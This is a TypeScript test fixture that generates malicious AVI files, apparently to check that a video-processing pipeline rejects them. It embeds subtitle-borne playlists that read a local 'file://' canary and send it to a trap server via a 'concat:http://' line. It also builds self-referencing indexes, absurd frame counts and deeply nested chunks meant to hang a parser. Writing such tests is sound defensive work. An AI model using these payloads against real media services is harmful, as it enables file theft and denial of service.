import type { HostileFile } from '../hostile-file.ts';
import { join } from './isobmff.ts';

const u32le = (...values: number[]): Buffer => {
  const buffer = Buffer.alloc(4 * values.length);
  for (const [index, value] of values.entries()) buffer.writeUInt32LE(value, 4 * index);
  return buffer;
};
const u16le = (value: number): Buffer => u32le(value).subarray(0, 2);

const chunk = (name: string, ...content: (Buffer | string)[]): Buffer => {
  const inside = join(...content);
  return join(name, u32le(inside.length), inside, Buffer.alloc(inside.length % 2));
};
const list = (name: string, ...content: Buffer[]): Buffer => chunk('LIST', name, ...content);

const mainHead = (streams: number): Buffer =>
  chunk('avih', u32le(100_000, 0, 0, 0x10, 10, 0, streams, 0, 64, 64, 0, 0, 0, 0));

const streamHead = (type: string, codec: string, lengthFrames = 10): Buffer =>
  chunk('strh', type, codec, u32le(0, 0, 0, 1, 10, 0, lengthFrames, 0, 0xffffffff, 0), u32le(0, 0));

const pictures = (codec: string): Buffer =>
  chunk('strf', u32le(40, 64, 64), u16le(1), u16le(24), codec, u32le(64 * 64 * 3, 0, 0, 0, 0));

/** Subtitles as some programs put them into AVI: a whole file of them in the first piece. */
const gab2 = (script: string): Buffer =>
  chunk('01tx', 'GAB2\0', u16le(2), u32le(2), 'x\0', u16le(4), u32le(script.length), script);

const withSubtitles = (script: string): Buffer =>
  chunk(
    'RIFF',
    'AVI ',
    list(
      'hdrl',
      mainHead(2),
      list('strl', streamHead('vids', 'MJPG'), pictures('MJPG')),
      list('strl', streamHead('txts', '\0\0\0\0'), chunk('strf', '')),
    ),
    list('movi', gab2(script), chunk('00dc', Buffer.alloc(64))),
  );

const eitherWay = ['encoded', 'not-a-video', 'damaged', 'no-video', 'unreadable', 'codec', 'too-long'] as const;

/** AVI files that read other files, or read themselves for ever. */
export const avis: readonly HostileFile[] = [
  {
    name: 'subtitles-that-are-a-playlist.avi',
    ...{ expected: eitherWay, isBrief: true },
    make: ({ canary }) =>
      withSubtitles(`#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://${canary.text}\n#EXT-X-ENDLIST\n`),
  },
  {
    name: 'subtitles-that-call-a-server.avi',
    expected: eitherWay,
    make: ({ canary, trap }) =>
      withSubtitles(`#EXTM3U\n#EXTINF:1,\nconcat:http://${trap}/x|file://${canary.text}\n#EXT-X-ENDLIST\n`),
  },
  {
    name: 'an-index-that-leads-to-itself.avi',
    expected: eitherWay,
    make: () => {
      // A table of tables whose only entry is the table itself.
      const table = chunk(
        'indx',
        u16le(4),
        Buffer.from([0, 0]),
        u32le(1),
        '00dc',
        u32le(0, 0, 0),
        u32le(0xa4, 0),
        u32le(64, 10),
      );
      const stream = list('strl', streamHead('vids', 'MJPG'), pictures('MJPG'), table);
      return chunk('RIFF', 'AVI ', list('hdrl', mainHead(1), stream), list('movi', chunk('00dc', Buffer.alloc(64))));
    },
  },
  {
    name: 'four-billion-frames.avi',
    expected: eitherWay,
    make: () => {
      const stream = list('strl', streamHead('vids', 'MJPG', 0xffffffff), pictures('MJPG'));
      return chunk('RIFF', 'AVI ', list('hdrl', mainHead(1), stream), list('movi', chunk('00dc', Buffer.alloc(64))));
    },
  },
  {
    name: 'lists-in-lists.avi',
    expected: eitherWay,
    make: () => {
      const lists = Array.from({ length: 20_000 }, () => join('LIST', u32le(0x7fffffff), 'rec '));
      return join('RIFF', u32le(0x7fffffff), 'AVI ', list('hdrl', mainHead(1)), ...lists);
    },
  },
];
